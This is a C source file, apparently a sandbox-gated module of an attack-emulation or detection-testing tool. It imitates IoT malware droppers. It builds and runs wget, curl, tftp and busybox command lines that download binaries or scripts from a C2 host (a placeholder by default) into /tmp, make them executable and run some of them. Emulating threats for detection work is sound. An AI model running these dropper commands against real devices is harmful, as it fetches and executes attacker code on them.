/*
 * Download-and-execute through the shell, as IoT droppers do: wget, curl, tftp and
 * busybox wget command lines against the C2 name (each bounded to 8 s).
 */
#include "common.h"

static int run_download_exec(int argc, char **argv)
{
    const char *c2 = argc >= 2 && argv[1][0] != '-' ? argv[1] : SAMPLE_C2_NAME;
    char cmd[512];
    require_sandbox("download_exec");
    snprintf(cmd, sizeof cmd,
             "cd /tmp || cd /var/run; wget -q -T 3 -t 1 http://%s/bins/x86 -O /tmp/.wget.bin; "
             "chmod 777 /tmp/.wget.bin; /tmp/.wget.bin " SAMPLE_CHILD_FLAG,
             c2);
    run_shell("sh wget", cmd, 8000);
    snprintf(cmd, sizeof cmd,
             "curl -s -m 3 -o /tmp/.curl.sh http://%s/bins.sh; chmod +x /tmp/.curl.sh; "
             "sh /tmp/.curl.sh",
             c2);
    run_shell("sh curl", cmd, 8000);
    snprintf(cmd, sizeof cmd, "tftp -g -r mips -l /tmp/.tftp.bin %s; chmod 777 /tmp/.tftp.bin",
             c2);
    run_shell("sh tftp", cmd, 8000);
    snprintf(cmd, sizeof cmd, "busybox wget http://%s/bins/arm7 -O - > /tmp/.bb.bin", c2);
    run_shell("sh busybox wget", cmd, 8000);
    return 0;
}
SAMPLE_MAIN(download_exec)
